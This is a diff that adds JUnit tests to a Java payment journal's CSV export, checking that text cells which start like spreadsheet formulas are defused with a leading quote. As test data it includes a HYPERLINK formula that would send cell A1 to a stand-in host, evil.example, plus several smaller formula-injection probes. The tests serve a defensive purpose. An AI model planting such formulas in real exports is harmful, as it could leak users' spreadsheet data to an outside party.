@@ -1,6 +1,7 @@
 package dev.kaikei.journal;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.tuple;
 
 import java.io.ByteArrayOutputStream;
 import java.nio.charset.StandardCharsets;
@@ -9,8 +10,12 @@ import java.nio.file.Path;
 import java.time.Instant;
 import java.util.ArrayList;
 import java.util.List;
+import java.util.stream.Stream;
 import org.junit.jupiter.api.DisplayName;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.MethodSource;
 
 @DisplayName("CSV export")
 class CsvExportTest extends JournalTestSupport {
@@ -70,6 +75,75 @@ class CsvExportTest extends JournalTestSupport {
         assertThat(CsvWriter.escape("a\rb")).isEqualTo("\"a\rb\"");
         assertThat(CsvWriter.escape("a\nb")).isEqualTo("\"a\nb\"");
         assertThat(CsvWriter.escape(null)).isEmpty();
+    }
+
+    @Test
+    @DisplayName("defuses text a spreadsheet would run as a formula, keeps amounts and statuses plain, and parses back")
+    void formulaInjection() throws Exception {
+        String hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
+        journal.insertPayment(NewPayment.qr("m-1", 1500, hyperlink, "@store", "-till"));
+        journal.transition("m-1", PaymentState.CREATING, PaymentChange.to(PaymentState.COMPLETED)
+                .withPaypayPaymentId("+pp").withPaypayStatus("COMPLETED")
+                .withAcceptedAt(Instant.parse("2026-11-02T01:00:30Z")));
+        clock.set(Instant.parse("2026-11-02T02:00:00Z"));
+        OperationRecord refund = journal.insertOperation(NewOperation.refund("m-1", "r-1", 500, "@SUM(A1)"));
+        journal.updateOperation(refund.id(), OperationState.PENDING, OperationChange.to(OperationState.SUCCEEDED)
+                .withPaypayStatus("REFUNDED").withPayment(PaymentChange.to(PaymentState.PARTIALLY_REFUNDED)));
+        journal.insertPayment(NewPayment.qr("m-2", 200, "+1+1", null, null));
+        journal.insertPayment(NewPayment.qr("m-3", 300, "-2", null, null));
+        journal.insertPayment(NewPayment.qr("m-4", 400, "\t=1+2", null, null));
+        journal.insertPayment(NewPayment.qr("m-5", 500, "抹茶ラテ 1+1=2 -50円 a@b", null, null));
+
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        BusinessDay day = BusinessDay.of(Instant.parse("2026-11-02T01:00:00Z"));
+        assertThat(journal.exportCsv(day.start(), day.end(), out)).isEqualTo(6);
+        byte[] bytes = out.toByteArray();
+        assertThat(bytes).startsWith(0xEF, 0xBB, 0xBF);
+        String text = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
+
+        assertThat(text).contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click\"\")\",");
+        List<List<String>> parsed = parse(text);
+        assertThat(parsed).hasSize(7);
+        assertThat(parsed.get(0)).containsExactlyElementsOf(CsvExport.HEADER);
+        assertThat(parsed.get(1)).containsExactly("2026-11-02T10:00:30+09:00", "m-1", "", "'+pp", "'@store",
+                "'-till", "QR", "PARTIALLY_REFUNDED", "COMPLETED", "1500", "'" + hyperlink, "");
+        assertThat(parsed.get(2)).containsExactly("2026-11-02T11:00:00+09:00", "m-1", "r-1", "'+pp", "'@store",
+                "'-till", "REFUND", "SUCCEEDED", "REFUNDED", "-500", "'@SUM(A1)", "");
+        assertThat(parsed.subList(3, 7)).extracting(r -> r.get(1), r -> r.get(9), r -> r.get(10)).containsExactly(
+                tuple("m-2", "200", "'+1+1"), tuple("m-3", "300", "'-2"), tuple("m-4", "400", "'\t=1+2"),
+                tuple("m-5", "500", "抹茶ラテ 1+1=2 -50円 a@b"));
+    }
+
+    @ParameterizedTest(name = "[{index}] {0}")
+    @MethodSource("formulaStarts")
+    @DisplayName("text cells starting like a formula get a leading quote, then RFC 4180 quoting as before")
+    void textCells(String value, String written) {
+        assertThat(CsvWriter.escape(CsvWriter.text(value).value())).isEqualTo(written);
+    }
+
+    static Stream<Arguments> formulaStarts() {
+        return Stream.of(
+                Arguments.of("=1+1", "'=1+1"),
+                Arguments.of("+81 90", "'+81 90"),
+                Arguments.of("-2", "'-2"),
+                Arguments.of("@SUM(A1)", "'@SUM(A1)"),
+                Arguments.of("\tcmd", "'\tcmd"),
+                Arguments.of("\r=cmd", "\"'\r=cmd\""),
+                Arguments.of("=A1,B1", "\"'=A1,B1\""),
+                Arguments.of("=\"x\"", "\"'=\"\"x\"\"\""),
+                Arguments.of("Coffee = 300", "Coffee = 300"),
+                Arguments.of(" =1", " =1"),
+                Arguments.of("'quoted", "'quoted"),
+                Arguments.of("", ""),
+                Arguments.of(null, ""));
+    }
+
+    @Test
+    @DisplayName("numbers and app-made values are written unchanged, a negative amount included")
+    void plainCells() {
+        assertThat(CsvWriter.number(-500).value()).isEqualTo("-500");
+        assertThat(CsvWriter.number(1500).value()).isEqualTo("1500");
+        assertThat(CsvWriter.plain("2026-11-02T10:00:30+09:00").value()).isEqualTo("2026-11-02T10:00:30+09:00");
     }
 
     /** A strict RFC 4180 reader: records end with CRLF; quoted fields may hold anything with quotes doubled. */
